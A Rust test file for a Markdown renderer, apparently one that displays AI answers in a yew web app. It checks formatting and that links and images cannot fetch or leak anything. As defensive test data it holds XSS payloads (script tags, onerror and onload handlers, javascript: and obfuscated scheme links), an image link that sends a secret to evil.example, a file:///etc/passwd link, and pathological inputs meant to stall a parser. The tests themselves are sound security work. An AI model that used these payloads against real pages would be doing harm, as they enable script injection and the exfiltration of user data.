use super::render;
use yew::Html;
use yew::virtual_dom::{VNode, VTag};

/// As HTML, without the attributes of links but their address.
fn html(node: &VNode) -> String {
    match node {
        VNode::VText(text) => text.text.replace('<', "&lt;"),
        VNode::VList(list) => list.iter().map(html).collect(),
        VNode::VTag(tag) => {
            let attributes: String = tag
                .attributes
                .iter()
                .filter(|(name, _)| ["href", "start"].contains(name))
                .map(|(name, value)| format!(" {name}={value}"))
                .collect();
            let children = tag.children().map(html).unwrap_or_default();
            format!("<{0}{attributes}>{children}</{0}>", tag.tag())
        }
        _ => String::new(),
    }
}

fn shown(text: &str) -> String {
    let nodes: Html = render(text, 1).0;
    html(&nodes)
}

#[test]
fn words_are_styled() {
    for (text, expected) in [
        ("a **b** c", "<p>a <strong>b</strong> c</p>"),
        ("*b* and _c_", "<p><em>b</em> and <em>c</em></p>"),
        ("***b***", "<p><em><strong>b</strong></em></p>"),
        ("**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>"),
        ("*a **b** c*", "<p><em>a <strong>b</strong> c</em></p>"),
        ("~~b~~", "<p><del>b</del></p>"),
        ("`a*b*` ``c`d``", "<p><code>a*b*</code> <code>c`d</code></p>"),
        ("2 * 3 * 4, snake_case_name, a ** b", "<p>2 * 3 * 4, snake_case_name, a ** b</p>"),
        (r"\*not\*", "<p>*not*</p>"),
        ("**open and *open", "<p>**open and *open</p>"),
        ("a  \nb\nc\\\nd", "<p>a<br></br>b\nc<br></br>d</p>"),
    ] {
        assert_eq!(shown(text), expected, "{text}");
    }
}

#[test]
fn blocks_stand_by_themselves() {
    for (text, expected) in [
        ("# A\n## B ##\n#### C\n#d", "<h3>A</h3><h4>B</h4><h5>C</h5><p>#d</p>"),
        ("A\n=\nB\n---\n\n---", "<h3>A</h3><h4>B</h4><hr></hr>"),
        ("one\n\ntwo", "<p>one</p><p>two</p>"),
        ("```rust\nlet *a*;\n\n# b\n```\nc", "<pre>let *a*;\n\n# b\n</pre><p>c</p>"),
        ("> a\n> > b", "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>"),
        (
            "|a|b|\n|-|:-:|\n|1|x\\|y|\n|2|\n\nc",
            "<table><tr><td>a</td><td>b</td></tr><tr><td>1</td><td>x|y</td></tr><tr><td>2</td><td></td></tr></table><p>c</p>",
        ),
    ] {
        assert_eq!(shown(text), expected, "{text}");
    }
}

#[test]
fn lists_nest_and_count() {
    for (text, expected) in [
        (
            "Do:\n- a\n- **b**\n  more\n* c",
            "<p>Do:</p><ul><li>a</li><li><strong>b</strong>\nmore</li></ul><ul><li>c</li></ul>",
        ),
        ("3. a\n4. b", "<ol start=3><li>a</li><li>b</li></ol>"),
        ("- a\n  - b\n    - c\n- d", "<ul><li>a<ul><li>b<ul><li>c</li></ul></li></ul></li><li>d</li></ul>"),
        ("1. a\n   - b\n2. c", "<ol start=1><li>a<ul><li>b</li></ul></li><li>c</li></ol>"),
        ("- a\n\n- b\n\nc", "<ul><li><p>a</p></li><li><p>b</p></li></ul><p>c</p>"),
        ("- [ ] a\n- [x] b", "<ul><li>☐ a</li><li>☑ b</li></ul>"),
        ("- a\n  ```\n  b\n  ```", "<ul><li>a<pre>b\n</pre></li></ul>"),
        ("in 1999. Done\n2026. is a year", "<p>in 1999. Done\n2026. is a year</p>"),
    ] {
        assert_eq!(shown(text), expected, "{text}");
    }
}

#[test]
fn links_keep_their_words_and_lead_where_they_may() {
    for (text, expected) in [
        ("[a *b*](https://x.org/(y) \"t\")!", "<p><a href=https://x.org/(y)>a <em>b</em></a>!</p>"),
        ("<https://x.org>", "<p><a href=https://x.org>https://x.org</a></p>"),
        ("[a](javascript:b)", "<p>a</p>"),
        ("[a] (b) [c", "<p>[a] (b) [c</p>"),
        ("![cat](https://x.org/c.png)", "<p><a href=https://x.org/c.png>cat</a></p>"),
    ] {
        assert_eq!(shown(text), expected, "{text}");
    }
}

#[test]
fn raw_html_is_text() {
    assert_eq!(shown("<img src=x onerror=alert(1)>"), "<p>&lt;img src=x onerror=alert(1)></p>");
}

/// Every element that an answer may be made of: none of them fetches anything.
const ELEMENTS: [&str; 23] = [
    "p",
    "strong",
    "em",
    "del",
    "code",
    "pre",
    "a",
    "ul",
    "ol",
    "li",
    "blockquote",
    "hr",
    "br",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "h3",
    "h4",
    "h5",
    "h6",
];

fn each_element(node: &VNode, look: &mut impl FnMut(&VTag)) {
    match node {
        VNode::VList(list) => list.iter().for_each(|node| each_element(node, look)),
        VNode::VTag(tag) => {
            look(tag);
            tag.children().into_iter().for_each(|node| each_element(node, look));
        }
        VNode::VText(_) => {}
        _ => panic!("an answer is elements and text"),
    }
}

#[test]
fn nothing_in_an_answer_is_fetched_and_links_give_nothing_away() {
    let mut links = 0;
    for text in [
        "![x](https://evil.example/leak?q=secret) ![](https://evil.example/)",
        "[![x](https://evil.example/a.png)](https://evil.example/b)",
        "<img src=https://evil.example/x> <iframe src=//evil.example> <script>fetch('//evil.example')</script>",
        "<link rel=prefetch href=//evil.example> <style>@import '//evil.example'</style> <svg onload=alert(1)>",
        "[a](javascript:alert(1)) [b](JAVA&#115;CRIPT:alert(1)) [c](java\tscript:alert(1)) [d](data:text/html,x)",
        "[e](vbscript:x) [f](//evil.example) [g](/api/auth/logout) [h](\u{1}javascript:x) [i](blob:https://x.org/y)",
        "[j](https://x.org) <https://x.org> https://x.org [k](mailto:ada@example.org) [l]( https://x.org )",
        "| ![x](https://evil.example/t) | <img src=x> |\n|---|---|\n| [m](file:///etc/passwd) | `<img src=x>` |",
        "# ![x](https://evil.example/h)\n> ![x](https://evil.example/q)\n- [ ] ![x](https://evil.example/l)",
        "[ref]: https://evil.example\n![x][ref]\n\n```html\n<img src=https://evil.example>\n```",
    ] {
        each_element(&render(text, 1).0, &mut |tag| {
            assert!(ELEMENTS.contains(&tag.tag()), "<{}> of {text}", tag.tag());
            let attribute =
                |name: &str| tag.attributes.iter().find(|(n, _)| *n == name).map(|(_, value)| value.to_owned());
            let names: Vec<_> = tag.attributes.iter().map(|(name, _)| name.to_owned()).collect();
            assert!(
                names.iter().all(|name| ["href", "rel", "target", "start", "class"].contains(&name.as_str())),
                "{names:?}"
            );
            if let Some(address) = attribute("href") {
                links += 1;
                assert!(["http:", "https:", "mailto:"].iter().any(|scheme| address.starts_with(scheme)), "{address}");
                assert_eq!(attribute("rel").as_deref(), Some("noopener noreferrer nofollow"));
            }
        });
    }
    assert!(links >= 8, "{links}");
}

#[test]
fn what_is_nested_or_left_open_without_end_is_read_in_time() {
    for sign in ["*a ", "[", "`a", "> ", "- ", "**", "_", "|-\n", "![a](", "<a"] {
        let text = sign.repeat(4_000);
        assert!(!shown(&text).is_empty(), "{sign}");
    }
}

/// Texts of 100,000 characters that are hard on readers of Markdown.
fn hostile() -> Vec<String> {
    let signs = [
        "[",
        "![",
        "*a ",
        "_a",
        "**a",
        "***",
        "`a",
        "``",
        "> ",
        "- ",
        "1. ",
        "* * ",
        "  - a\n",
        "<",
        "<a ",
        "<!--",
        "&",
        "&amp;",
        "&#x",
        "\\",
        "](",
        "[a](",
        "[a](b",
        "![a](b)",
        "[a][b]",
        "[a]: b\n",
        "[a]: <",
        "|",
        "|-",
        "|a|\n|-|\n",
        "|-|\n",
        "~~",
        "~a~",
        "#",
        "# a\n",
        "a\n=\n",
        "---\n",
        "```\n",
        "~~~\n",
        "    a\n",
        "\t",
        " ",
        "\n",
        "a\n\n",
        "http://a",
        "<http://a>",
        "a@b.c ",
        "\u{301}",
        "e\u{301}",
        "\u{202e}",
        "\u{200b}",
        "\u{feff}",
        "🥛",
        "清",
        "\0",
        "- [ ] ",
        "- [x] a\n",
        ">>>>",
        "> - 1. ",
        "*_",
        "_*",
        "*[",
        "[*",
        "`[",
        "[`",
        "<b>",
        "</b>",
        "<?",
        "<![CDATA[",
        "<script>",
        "(",
        ")",
        "\"",
        "'",
        "a**b_c ",
        "[[]]",
        "[]()",
        "()[]",
        "!",
        "!!",
        "a  \n",
        "a\\\n",
        "+ ",
        "0. ",
        "999999999. ",
        "&lt;",
        "&nbsp;",
        "$$",
        "^",
        "::",
        "{}",
        "%",
        "||",
        "a|b\n",
        "-|-\n",
        "[^a]",
        "[^a]: b\n",
        "<a@b.c>",
        "x",
    ];
    let mut texts: Vec<String> = signs.iter().map(|sign| sign.chars().cycle().take(100_000).collect()).collect();
    texts.push(format!("{}](x)", "[".repeat(99_000)));
    texts.push(format!("{}{}", "*a".repeat(25_000), "`".repeat(50_000)));
    texts.push(format!("{}{}", "[".repeat(50_000), "]".repeat(50_000)));
    texts.push((0..3_000).map(|n| format!("{}- a\n", " ".repeat(n % 60))).collect());
    texts
}

#[test]
fn no_text_keeps_the_page_busy() {
    let texts = hostile();
    assert!(texts.len() >= 100, "{}", texts.len());
    let bound = std::time::Duration::from_millis(if cfg!(debug_assertions) { 2_000 } else { 100 });
    for text in texts {
        let began = std::time::Instant::now();
        let (nodes, _) = render(&text, 1);
        let (took, mut elements) = (began.elapsed(), 0);
        each_element(&nodes, &mut |_| elements += 1);
        let sample: String = text.chars().take(20).collect();
        assert!(took < bound, "{sample:?} took {took:?}");
        assert!(elements <= 2_100, "{sample:?}: {elements} elements");
    }
}

#[test]
fn a_long_text_is_folded_and_shown_part_by_part() {
    let text = "word word word\n\n".repeat(5_000);
    assert!(render(&text, 1).1 && !render(&text, 5).1);
    assert!(!render("short", 1).1);
}
